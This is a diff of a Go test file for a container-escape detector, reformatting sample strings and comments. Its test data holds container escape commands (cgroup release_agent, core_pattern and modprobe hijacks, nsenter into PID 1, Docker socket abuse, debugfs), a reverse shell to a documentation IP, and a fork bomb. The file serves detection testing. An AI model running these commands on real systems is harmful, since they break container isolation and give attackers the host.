@@ -11,14 +11,15 @@ import (
 	"time"
 )
 
-// hits has at least one sample for every rule, at the severity it is expected with.
+// hits contains a sample for every rule, with the expected severity.
 var hits = []struct {
 	rule     string
 	severity Severity
 	language string
 	code     string
 }{
-	{"cgroup-release-agent", Critical, "bash", "mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c\necho \"$host/cmd\" > /tmp/c/release_agent"},
+	{"cgroup-release-agent", Critical, "bash",
+		"mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c\necho \"$host/cmd\" > /tmp/c/release_agent"},
 	{"cgroup-release-agent", Critical, "sh", "echo /x | tee /sys/fs/cgroup/rdma/release_agent"},
 	{"cgroup-release-agent", Critical, "python", "open('/tmp/c/release_agent', 'w').write(cmd)"},
 	{"cgroup-release-agent", Critical, "python", "os.system('echo /cmd > /tmp/c/release_agent')"},
@@ -26,7 +27,8 @@ var hits = []struct {
 	{"cgroup-release-agent", Critical, "go", `os.WriteFile("/sys/fs/cgroup/rdma/release_agent", cmd, 0)`},
 	{"cgroup-release-agent", Critical, "ruby", "File.write('/tmp/c/release_agent', cmd)"},
 	{"core-pattern-write", Critical, "bash", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"},
-	{"core-pattern-write", Critical, "python", "with open(\"/proc/sys/kernel/core_pattern\", mode='w') as f: f.write('|/x')"},
+	{"core-pattern-write", Critical, "python",
+		"with open(\"/proc/sys/kernel/core_pattern\", mode='w') as f: f.write('|/x')"},
 	{"core-pattern-write", Critical, "sh", "sysctl -w kernel.core_pattern=\"|/tmp/x\""},
 	{"uevent-helper-write", Critical, "bash", "echo /cmd >/sys/kernel/uevent_helper"},
 	{"modprobe-path-write", Critical, "bash", "echo /tmp/x > /proc/sys/kernel/modprobe"},
@@ -44,9 +46,11 @@ var hits = []struct {
 	{"nsenter-init", Critical, "python", "os.system('nsenter --target=1 --mount sh')"},
 	{"chroot-init-root", Critical, "bash", "chroot /proc/1/root /bin/sh"},
 	{"chroot-init-root", Critical, "python", "os.chroot('/proc/1/root'); os.execv('/bin/sh', ['sh'])"},
-	{"engine-socket-create", Critical, "bash", "curl --unix-socket /var/run/docker.sock -d '{\"Image\":\"x\"}' http://x/containers/create"},
+	{"engine-socket-create", Critical, "bash",
+		"curl --unix-socket /var/run/docker.sock -d '{\"Image\":\"x\"}' http://x/containers/create"},
 	{"engine-socket-create", Critical, "bash", "docker -H unix:///var/run/docker.sock run -it --privileged alpine"},
-	{"engine-socket-create", Critical, "python", "s.connect('/var/run/docker.sock'); s.send(b'POST /containers/create HTTP/1.1'); exec(s.recv(9))"},
+	{"engine-socket-create", Critical, "python",
+		"s.connect('/var/run/docker.sock'); s.send(b'POST /containers/create HTTP/1.1'); exec(s.recv(9))"},
 	{"host-disk-write", Critical, "bash", "debugfs -w /dev/sda1"},
 
 	{"engine-socket", High, "bash", "ls -l /run/containerd/containerd.sock"},
@@ -148,15 +152,18 @@ func TestRulesAreWellFormed(t *testing.T) {
 	}
 }
 
-// TestInnocentIsNotCritical has what must run: ordinary code, programs that
-// tell about escapes, comments, tools that look for them.
+// TestInnocentIsNotCritical covers code that must run: ordinary code, programs that describe escapes, comments, tools
+// that search for escapes.
 func TestInnocentIsNotCritical(t *testing.T) {
 	for _, c := range []struct{ name, language, code string }{
 		{"hello", "python", "print('hello')"},
 		{"empty", "python", ""},
-		{"an article, printed", "python", "print('''Attackers run: nsenter -t 1 -m -u -i -n sh\nor echo x > /sys/fs/cgroup/release_agent\nor echo b > /proc/sysrq-trigger''')"},
-		{"an article, in JavaScript", "node", "console.log(\"they write '|/x' > /proc/sys/kernel/core_pattern, then crash\")"},
-		{"an article, in Go", "go", "package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"chroot /proc/1/root is how\") }"},
+		{"an article, printed", "python", "print('''Attackers run: nsenter -t 1 -m -u -i -n sh\nor echo x > " +
+			"/sys/fs/cgroup/release_agent\nor echo b > /proc/sysrq-trigger''')"},
+		{"an article, in JavaScript", "node",
+			"console.log(\"they write '|/x' > /proc/sys/kernel/core_pattern, then crash\")"},
+		{"an article, in Go", "go",
+			"package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"chroot /proc/1/root is how\") }"},
 		{"a comment in shell", "bash", "# never do: echo b > /proc/sysrq-trigger\n  # nor: nsenter -t 1 -m sh\nls"},
 		{"a comment in Python", "python", "import os\n# nsenter -t 1 -m sh would leave\nos.system('ls')"},
 		{"a comment in Go", "go", "// debugfs -w /dev/sda1 would be bad\nexec.Command(\"ls\")"},
@@ -170,7 +177,8 @@ func TestInnocentIsNotCritical(t *testing.T) {
 		{"its own descriptors", "bash", "ls /proc/self/fd; exec 3</proc/self/fd/0; cat /proc/self/fd/3"},
 		{"nsenter of another process", "bash", "nsenter -t 1234 -n ip addr; nsenter -t 12 -m ls"},
 		{"nsenter's help", "bash", "nsenter --help"},
-		{"a detector's own rule", "python", "rules = [r'nsenter', r'release_agent', r'core_pattern', r'docker\\.sock']\nfor l in open('x'):\n  pass"},
+		{"a detector's own rule", "python",
+			"rules = [r'nsenter', r'release_agent', r'core_pattern', r'docker\\.sock']\nfor l in open('x'):\n  pass"},
 		{"a word list", "python", "words = ['nsenter', 'chroot', 'mount', 'unshare']\nopen('out', 'w').write(str(words))"},
 		{"a fork bomb, which limits stop", "bash", ":(){ :|:& };:"},
 		{"a reverse shell, which has no network", "bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"},
@@ -194,10 +202,15 @@ func TestInnocentIsNotCritical(t *testing.T) {
 
 func TestOrdinaryCodeIsSilent(t *testing.T) {
 	for language, code := range map[string]string{
-		"python": "import os, sys, json, subprocess\ndef main():\n    amount = sum(int(x) for x in sys.stdin)\n    subprocess.run(['ls', '-l'])\n    os.chmod('x', 0o755)\n    with open('out.json', 'w') as f: json.dump({'amount': amount}, f)\nmain()",
-		"node":   "const fs = require('fs'), { execSync } = require('child_process');\nfs.mkdirSync('x', { recursive: true });\nconsole.log(execSync('ls').toString(), process.memoryUsage());",
-		"bash":   "set -euo pipefail\nf() { echo \"$1\" | sort; }\nfor i in 1 2 3; do f \"$i\" >> out.txt; done\nchmod 755 out.txt; cat out.txt | wc -l &\nwait",
-		"go":     "package main\nimport (\"fmt\"; \"os\"; \"net\")\nfunc main() { l, _ := net.Listen(\"tcp\", \"127.0.0.1:0\"); fmt.Fprintln(os.Stdout, l.Addr()) }",
+		"python": "import os, sys, json, subprocess\ndef main():\n    amount = sum(int(x) for x in sys.stdin)\n    " +
+			"subprocess.run(['ls', '-l'])\n    os.chmod('x', 0o755)\n    with open('out.json', 'w') as f: " +
+			"json.dump({'amount': amount}, f)\nmain()",
+		"node": "const fs = require('fs'), { execSync } = require('child_process');\nfs.mkdirSync('x', { recursive: true " +
+			"});\nconsole.log(execSync('ls').toString(), process.memoryUsage());",
+		"bash": "set -euo pipefail\nf() { echo \"$1\" | sort; }\nfor i in 1 2 3; do f \"$i\" >> out.txt; done\nchmod 755 " +
+			"out.txt; cat out.txt | wc -l &\nwait",
+		"go": "package main\nimport (\"fmt\"; \"os\"; \"net\")\nfunc main() { l, _ := net.Listen(\"tcp\", " +
+			"\"127.0.0.1:0\"); fmt.Fprintln(os.Stdout, l.Addr()) }",
 	} {
 		if events := Scan(language, []byte(code)); len(events) != 0 {
 			t.Errorf("%s: %+v", language, events)
@@ -235,7 +248,7 @@ func TestEventsAreBoundedAndTheGravestStay(t *testing.T) {
 	}
 }
 
-// The longest code, made of nothing but what rules look for.
+// hostile returns code of the maximum length that consists of literals.
 func hostile() map[string][]byte {
 	const size = 1 << 20
 	all := map[string][]byte{}
@@ -245,8 +258,9 @@ func hostile() map[string][]byte {
 			mix.WriteString(l + " ")
 		}
 	}
-	for name, s := range map[string]string{"literals": mix.String(), "one line of spaces": " ", "nsenter": "nsenter -t ", "slashes": "/proc/self/fd/",
-		"open": "open('/release_agent", "newlines": "\n", "NUL": "\x00", "words": "a_"} {
+	for name, s := range map[string]string{"literals": mix.String(), "one line of spaces": " ", "nsenter": "nsenter -t ",
+		"slashes": "/proc/self/fd/",
+		"open":    "open('/release_agent", "newlines": "\n", "NUL": "\x00", "words": "a_"} {
 		all[name] = bytes.Repeat([]byte(s), size/len(s))
 	}
 	return all
@@ -256,7 +270,7 @@ func TestHostileCodeIsScannedInTime(t *testing.T) {
 	for name, code := range hostile() {
 		start := time.Now()
 		Scan("bash", code)
-		// Twenty times what it takes here: a quadratic pattern takes minutes.
+		// Twenty times the usual time: a quadratic pattern takes minutes.
 		if d := time.Since(start); d > 10*time.Second {
 			t.Errorf("%s: %v", name, d)
 		}
